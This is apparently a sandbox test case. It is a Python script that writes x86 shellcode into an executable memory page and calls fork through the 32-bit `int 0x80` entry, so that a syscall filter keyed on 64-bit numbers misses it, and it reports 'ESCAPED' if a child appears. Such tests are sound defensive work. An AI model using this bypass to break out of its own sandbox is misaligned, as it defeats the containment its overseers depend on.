"""Forks and opens through `int 0x80`, the 32-bit entry, which a filter by 64-bit numbers would misread.

Layer: kernel
Escape: the call is made
Control: machine code in an executable page can be run
Expect: Crashed | none
"""

# control
import ctypes
import mmap
import os

page = mmap.mmap(
    -1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
code = b"\xb8\x2a\0\0\0\xc3"
page[: len(code)] = code
os.uname().machine != "x86_64" or ctypes.CFUNCTYPE(ctypes.c_long)(start)() == 42

# attack
found = "no such entry here"
if os.uname().machine == "x86_64":
    code = b"\x53\xb8\x02\0\0\0\xcd\x80\x5b\xc3"
    page[: len(code)] = code
    made = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
    if made == 0:
        os._exit(0)
    found = f"ESCAPED: int 0x80 forked {made}" if made > 0 else made
found
